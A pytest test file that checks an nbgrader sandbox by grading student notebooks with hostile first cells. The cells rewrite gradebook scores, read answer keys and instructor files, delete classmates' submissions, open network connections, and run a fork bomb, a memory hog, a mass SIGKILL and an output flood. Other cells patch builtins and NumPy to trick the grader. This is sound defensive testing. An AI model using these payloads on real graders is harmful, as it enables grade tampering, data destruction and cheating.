"""Submissions that attack the grader, through the real nbgrader cycle with the course's default
configuration (every kernel in the bubblewrap sandbox).

Each attacker hands in the right answers plus one extra first cell that tries to do harm; an honest
classmate hands in the same answers. Every attack must earn exactly what its answers earn (10 points),
the classmate 10, nothing outside the submission's own folder may change (checksums of the course
folder, the checkout's exercises and the instructor's files, before and after), and the whole class is
graded. A second course grades the gradebook attack with the sandbox switched off (the documented
option) and shows that it then succeeds, so these tests would catch a sandbox that is not there.
"""

import hashlib
import os
import socket
import threading
import time

import nbformat
import pytest

from tests.grading.helpers import (
    CLASS_ASSIGNMENT,
    EXERCISES,
    make_course,
    nbgrader,
    regrade,
    scores,
    submission,
)

pytestmark = pytest.mark.slow

ASSIGNMENT = CLASS_ASSIGNMENT
OTHER_ASSIGNMENT = "03_loss_functions"  # released too: its release and source must stay out of reach
RIGHT = {
    "swish": "def swish(x):\n    return x * tf.sigmoid(x)\n",
    "swish_derivative": ("def swish_derivative(xs):\n"
                         "    s = 1.0 / (1.0 + np.exp(-np.asarray(xs, dtype=float)))\n"
                         "    return s + xs * s * (1.0 - s)\n"),
    "softmax": ("def softmax(z):\n    e = np.exp(z - z.max(axis=-1, keepdims=True))\n"
                "    return e / e.sum(axis=-1, keepdims=True)\n"),
}
HONEST = "honest"


def attacks(course, instructor_file, port, test_pid):
    """{student: the extra first cell}. The paths an attacker would guess or find are written in."""
    paths = {
        "gradebook": course / "gradebook.db",
        "source": EXERCISES / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "other_release": course / "release" / OTHER_ASSIGNMENT / f"{OTHER_ASSIGNMENT}.ipynb",
        "classmate": course / "submitted" / HONEST / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "instructor": instructor_file,
    }
    return {
        "gradebook": f"""
import os, sqlite3
found = [{str(paths['gradebook'])!r}]
folder = os.getcwd()
while folder != "/":
    found.append(os.path.join(folder, "gradebook.db"))
    folder = os.path.dirname(folder)
for path in found:
    try:
        db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("CHANGED", path)
    except Exception as exc:
        print("BLOCKED", path, type(exc).__name__)
""",
        "reader": f"""
for path in [{str(paths['source'])!r}, {str(paths['other_release'])!r}, {str(paths['instructor'])!r},
             "{ASSIGNMENT}.ipynb", "../../../gradebook.db"]:
    try:
        print("LEAKED", path, open(path).read()[:2000])
    except Exception as exc:
        print("BLOCKED", path, type(exc).__name__)
""",
        "saboteur": f"""
import os, shutil
for path in [{str(paths['classmate'])!r}, {str(paths['instructor'])!r}]:
    try:
        with open(path, "w") as file:
            file.write("{{}}")
        print("CHANGED", path)
    except Exception as exc:
        print("BLOCKED", path, type(exc).__name__)
    try:
        os.remove(path)
        print("CHANGED", path)
    except Exception as exc:
        print("BLOCKED", path, type(exc).__name__)
try:
    shutil.rmtree({str(course / 'submitted')!r})
    print("CHANGED submitted/")
except Exception as exc:
    print("BLOCKED submitted/", type(exc).__name__)
""",
        "network": f"""
import socket
for host in ["127.0.0.1", "localhost", "1.1.1.1"]:
    try:
        socket.create_connection((host, {port}), timeout=3).sendall(b"leak")
        print("CONNECTED", host)
    except Exception as exc:
        print("BLOCKED", host, type(exc).__name__)
""",
        "forkbomb": """
import os, subprocess
subprocess.Popen(["bash", "-c", ":(){ :|:& };:"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
children = 0
for _ in range(100000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
    except OSError as exc:
        print("fork stopped after", children, type(exc).__name__)
        break
""",
        "memoryhog": """
import mmap
for allocate in [lambda: bytearray(8 * 1024**3), lambda: mmap.mmap(-1, 8 * 1024**3)]:
    try:
        block = allocate()
        block[::4096] = b"x" * len(block[::4096])
        print("ALLOCATED")
    except (MemoryError, OSError, ValueError) as exc:
        print("BLOCKED", type(exc).__name__)
""",
        "signals": f"""
import os, signal
own = {{int(task) for task in os.listdir("/proc/self/task")}}  # its own threads: it would kill itself
for pid in [os.getppid(), 1, {test_pid}, *range(2, 400)]:
    if pid not in own:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
print("still here")
""",
        "flood": """
import sys
chunk = "x" * (1 << 20)
written = 0
try:
    with open("big.bin", "w") as file:
        for _ in range(4096):
            file.write(chunk)
            written += 1
except OSError as exc:
    print("file stopped at", written, "MiB", type(exc).__name__, flush=True)
for _ in range(1024):
    sys.stdout.write(chunk)
    sys.stdout.flush()
""",
    }


# wrong answers that try to pass anyway: NumPy and builtins patched, failed assertions hidden by a custom
# exception handler (nbgrader reads the reply's error status), an object equal to everything
# (0 points for the two tricked cells; swish is right)
TRICKS = {
    "swish": RIGHT["swish"] + (
        "import builtins\n"
        "builtins.abs = lambda x: 0\nbuiltins.all = lambda *a: True\n"
        "get_ipython().set_custom_exc((AssertionError,), lambda *args, **kwargs: None)\n"),
    "swish_derivative": ("np.allclose = lambda *a, **k: True\nnp.absolute = lambda x: np.zeros_like(x)\n"
                         "def swish_derivative(xs):\n    return np.zeros_like(xs)\n"),
    "softmax": ("class Anything(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
                "    __le__ = __ge__ = __lt__ = __gt__ = __eq__\n"
                "def softmax(z):\n    return np.zeros(np.shape(z)).view(Anything)\n"),
}
EXPECTED_TRICKS = {"test_swish": 3, "test_swish_derivative": 0, "test_softmax": 0}
EXPECTED_RIGHT = {"test_swish": 3, "test_swish_derivative": 3, "test_softmax": 4}


def _with_first_cell(notebook, source):
    """The notebook with a new code cell at the top (a student may add cells anywhere)."""
    if source:
        notebook.cells.insert(0, nbformat.v4.new_code_cell(source))
    return notebook


def _checksums(*folders, skip=()):
    """{path: sha256} of every file below `folders`, except those below a folder named in `skip`."""
    sums = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and not any(part in skip for part in path.relative_to(folder).parts):
                sums[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return sums


class _Listener:
    """A TCP server on loopback that records every connection (none may come from a sandbox)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.server.settimeout(0.2)
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
                self.connections += 1
                connection.close()
            except OSError:
                pass

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def _hand_in(course, students):
    """Generate and release both assignments, put each student's notebook where zip_collect finds it,
    collect them."""
    for student in students:
        nbgrader(course, "db", "student", "add", student)
    nbgrader(course, "generate_assignment", ASSIGNMENT)
    nbgrader(course, "generate_assignment", OTHER_ASSIGNMENT)
    released = course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    archive = course / "downloaded" / ASSIGNMENT / "archive"
    archive.mkdir(parents=True)
    for student, (answers, first_cell) in students.items():
        notebook = _with_first_cell(submission(released, answers, {}), first_cell)
        nbformat.write(notebook, archive / f"{student}_{ASSIGNMENT}.ipynb")
    nbgrader(course, "zip_collect", ASSIGNMENT)


@pytest.fixture(scope="module")
def attacked_class(tmp_path_factory):
    """The attackers and the honest classmate, graded in the sandbox; the course, the logs, the
    checksums before and after, the connections the listener saw and the seconds autograde took."""
    root = tmp_path_factory.mktemp("sandbox")
    course = make_course(root / "course")
    instructor_file = root / "instructor" / "grades-draft.txt"
    instructor_file.parent.mkdir()
    instructor_file.write_text("private notes\n")
    listener = _Listener()
    cells = attacks(course, instructor_file, listener.port, os.getpid())
    students = {HONEST: (RIGHT, None), "tricks": (TRICKS, None),
                **{name: (RIGHT, source) for name, source in cells.items()}}
    _hand_in(course, students)
    watched = (course, EXERCISES, instructor_file.parent)
    before = _checksums(*watched, skip={"autograded", "gradebook.db", "feedback"})
    started = time.perf_counter()
    log = nbgrader(course, "autograde", ASSIGNMENT, timeout=1200).stdout
    seconds = time.perf_counter() - started
    after = _checksums(*watched, skip={"autograded", "gradebook.db", "feedback"})
    listener.close()
    print(f"sandboxed autograde of {len(students)} notebooks: {seconds:.1f} s "
          f"({seconds / len(students):.2f} s per notebook)")
    return {"course": course, "log": log, "before": before, "after": after, "students": students,
            "connections": listener.connections, "seconds": seconds}


def _outputs(course, student):
    """All the text of the autograded notebook's outputs."""
    path = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    texts = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            texts.append(output.get("text", "") + "".join(output.get("data", {}).get("text/plain", "")))
    return "\n".join(texts)


def test_every_attack_earns_what_its_answers_earn(attacked_class):
    per_cell, totals = scores(attacked_class["course"], ASSIGNMENT)
    expected = {student: EXPECTED_TRICKS if student == "tricks" else EXPECTED_RIGHT
                for student in attacked_class["students"]}
    assert {student: per_cell.get(student) for student in expected} == expected, attacked_class["log"][-4000:]
    assert totals[HONEST] == 10.0


def test_nothing_outside_the_submissions_changes(attacked_class):
    before, after = attacked_class["before"], attacked_class["after"]
    assert before == after, sorted(set(before.items()) ^ set(after.items()))[:10]


def test_the_attacks_were_stopped_in_the_sandbox(attacked_class):
    course = attacked_class["course"]
    assert "BLOCKED" in _outputs(course, "gradebook") and "CHANGED" not in _outputs(course, "gradebook")
    reader = _outputs(course, "reader")
    assert "LEAKED" not in reader and reader.count("BLOCKED") == 5, reader
    saboteur = _outputs(course, "saboteur")
    assert "CHANGED" not in saboteur and saboteur.count("BLOCKED") == 5, saboteur
    network = _outputs(course, "network")
    assert "CONNECTED" not in network and network.count("BLOCKED") == 3, network
    assert attacked_class["connections"] == 0
    assert "ALLOCATED" not in _outputs(course, "memoryhog")
    assert "still here" in _outputs(course, "signals")
    assert "fork stopped after" in _outputs(course, "forkbomb")
    assert "Stopped" in attacked_class["log"] and "left running in the sandbox" in attacked_class["log"]


def test_a_flood_of_output_stays_small(attacked_class):
    course = attacked_class["course"]
    notebook = course / "autograded" / "flood" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert notebook.stat().st_size < 4 * 1024**2
    text = _outputs(course, "flood")
    assert "file stopped at" in text and "dropped the rest" in text
    assert not (course / "autograded" / "flood" / ASSIGNMENT / "big.bin").exists()


def test_grading_an_attack_twice_gives_the_same_score(attacked_class):
    course = attacked_class["course"]
    before, after = regrade(course, ASSIGNMENT, ("forkbomb", "tricks"))
    assert after == before


def test_without_the_sandbox_the_gradebook_attack_succeeds(tmp_path):
    """The documented way to grade unsandboxed: the log says so, and the attack then works, which is
    what the sandbox prevents above."""
    course = make_course(tmp_path / "course")
    with open(course / "nbgrader_config.py", "a") as file:
        file.write("c.GradingSandbox.enabled = False\n")
    listener_free = attacks(course, tmp_path / "none", 9, 0)
    _hand_in(course, {HONEST: (RIGHT, None), "gradebook": (RIGHT, listener_free["gradebook"])})
    started = time.perf_counter()
    log = nbgrader(course, "autograde", ASSIGNMENT).stdout
    seconds = time.perf_counter() - started
    print(f"unsandboxed autograde of 2 notebooks: {seconds:.1f} s ({seconds / 2:.2f} s per notebook)")
    assert "GRADING WITHOUT THE SANDBOX" in log
    _, totals = scores(course, ASSIGNMENT)
    assert totals["gradebook"] > 10.0  # its own cells: the manual score of 100 it wrote stands


def test_no_sandbox_no_grading(tmp_path):
    """Where bubblewrap cannot start, autograde stops before the first student, naming cause and fix."""
    course = make_course(tmp_path / "course")
    with open(course / "nbgrader_config.py", "a") as file:
        file.write("c.GradingSandbox.bwrap = 'bwrap-not-installed'\n")
    _hand_in(course, {HONEST: (RIGHT, None)})
    result = nbgrader(course, "autograde", ASSIGNMENT, check=False)
    assert result.returncode != 0
    assert "bubblewrap ('bwrap-not-installed') is not installed" in result.stdout
    assert "apt-get install bubblewrap" in result.stdout and "GradingSandbox.enabled = False" in result.stdout
    assert not (course / "autograded").exists()
    _, totals = scores(course, ASSIGNMENT)
    assert totals == {}
